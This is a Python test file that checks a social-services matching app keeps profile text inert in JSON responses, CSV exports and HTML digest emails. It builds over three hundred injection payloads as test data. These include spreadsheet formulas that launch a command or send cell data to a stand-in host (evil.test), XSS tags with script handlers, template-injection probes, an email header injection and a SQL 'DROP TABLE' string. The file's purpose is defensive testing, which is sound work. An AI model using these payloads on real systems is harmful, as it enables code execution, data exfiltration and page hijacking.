"""What a profile says stays text: in JSON, in the cells of an export, in the page of a mail."""

import csv
import io
import json
import string
from collections.abc import Callable
from datetime import date
from html.parser import HTMLParser
from itertools import product
from typing import Any

import pytest
from fastapi.testclient import TestClient

from matcher.mailing.digest import Answers, Digest, Footer, Suggested, Term, render_digest

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
CALLS = (
    *('cmd|" /C calc"!A0', 'HYPERLINK("http://evil.test?"&A1,"x")', "1+1", "SUM(A1:A9)", "x"),
    *('IMPORTXML("http://evil.test","//a")', "WEBSERVICE(A1)", "'+1", '"=1"', "DDE(x;y;z)"),
)
TAGS = ("script", "img", "svg", "iframe", "style", "link", "object", "form", "math", "base", "meta")
SHAPES = (
    *("<{t} src=//evil.test onerror=alert(1)>", '"><{t} onload=alert(1)>', "'><{t}/x>", "</{t}>"),
    *("<{T} SRC=javascript:alert(1)>", "<{t}\u2028onload=alert(1)>", "--><{t}>", "]]><{t}>"),
    *("</td></table><{t}>", "&lt;{t}&gt;<{t}>", "<{t}", "<<{t}>>", "\u202e<{t}>"),
    *("</title><{t}>", "</style><{t}>", "<!--<{t}>", "<!DOCTYPE {t}>", "<?{t} ?>"),
)
ODD = (
    *("javascript:alert(1)", "data:text/html,<b>x</b>", "{{ 7 * 7 }}", "{% raw %}", "${7*7}"),
    *("{{ ''.__class__ }}", "%(x)s", "{0}", "{typed}", "=?utf-8?q?A=0D=0ABcc=3A_x?=", "\\u003cb>"),
    *("a\u2028b", "a\u0085b", "\ufeff=1", "\u200f<b>", "\uff1d1+1", "\uff1cscript\uff1e"),
    *("'; DROP TABLE actors; --", "NULL", "None", "undefined", "true", "-0", "1e309", "%00"),
)
PAYLOADS = (
    *(f"{first}{call}" for first, call in product(FORMULAS, CALLS)),
    *(shape.format(t=tag, T=tag.upper()) for shape, tag in product(SHAPES, TAGS)),
    *ODD,
    *(f"{mark}x" for mark in string.punctuation),
)
OURS = "https://synergies.test/"


class _Page(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.said: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.said.append(data)


def test_there_are_at_least_three_hundred_payloads(tell: Callable[[str], None]) -> None:
    tell(f"{len(set(PAYLOADS))} payloads as text of a profile")
    assert len(set(PAYLOADS)) >= 300


def test_an_answer_is_json_whatever_a_profile_says_and_an_export_runs_nothing(
    client: TestClient, tell: Callable[[str], None]
) -> None:
    cells = 0
    for start in range(0, len(PAYLOADS), 30):
        some = list(PAYLOADS[start : start + 30])
        told = [one for one in some if one.strip()]
        body = {"kind": "social_worker", "commune": "95018", "name": some[0], "needs": told}
        body |= {"description": " / ".join(some), "organization": some[-1], "source": some[1]}
        wrote = client.put("/actors/ccas-argenteuil", json=body)
        assert wrote.status_code == 200, wrote.text
        card = client.get("/actors/ccas-argenteuil")
        assert_inert(card)
        kept = [need["text"] for need in card.json()["needs"]]
        assert set(kept) <= {clean(one) for one in told} | set(told)
        cells += assert_no_cell_runs(client.get("/actors/ccas-argenteuil/export?format=csv"))
        assert_inert(client.get("/actors/ccas-argenteuil/export"))
        assert_inert(client.get("/recommendations?actor_id=ccas-argenteuil"))
    tell(f"{cells} cells exported, 0 that a spreadsheet runs")
    assert cells > 1_000


def clean(text: str) -> str:
    return " ".join(text.replace("\ufeff", "").split())


def typeset(text: str) -> str:
    """As a reader sees it: an apostrophe is set as French sets it."""
    return clean(text).replace("'", "’")


def assert_inert(answer: Any) -> None:
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")
    json.loads(answer.text)


def assert_no_cell_runs(answer: Any) -> int:
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert {len(row) for row in rows} == {4}
    cells = [cell for row in rows for cell in row]
    numbers = {cell for cell in cells if cell.lstrip("-").replace(".", "", 1).isdigit()}
    assert [cell for cell in cells if cell.startswith(FORMULAS) and cell not in numbers] == []
    return len(cells)


@pytest.mark.parametrize("field", ["name", "organization", "commune", "reason", "reader", "term"])
def test_a_mail_has_the_same_tags_whatever_a_profile_says(field: str) -> None:
    usual = page("mot", field)
    for payload in PAYLOADS:
        found = page(payload, field)
        assert found.found == usual.found, payload
        assert typeset(payload) in typeset("".join(found.said)), payload


def page(said: str, field: str) -> _Page:
    fields: dict[str, Any] = {
        **{"name": "Anne", "organization": "Le Cabas", "side": "x", "commune": "Ermont"},
        **{"distance": "à 4 km", "kind": "orienter", "reason": "Une salle."},
        "terms": (Term("EI", said if field == "term" else "entreprise", "Elle emploie."),),
        "answers": Answers(*(f"{OURS}r/{verb}" for verb in "abc")),
    }
    footer = Footer("Synergies", "a@synergies.test", "x", True, OURS, OURS, OURS)
    some = Suggested(**(fields | ({field: said} if field in fields else {})))
    reader = said if field == "reader" else "Kadi Sow"
    return _Page(render_digest(Digest(reader, "Cergy", date(2026, 12, 1), (some,), footer)).html)
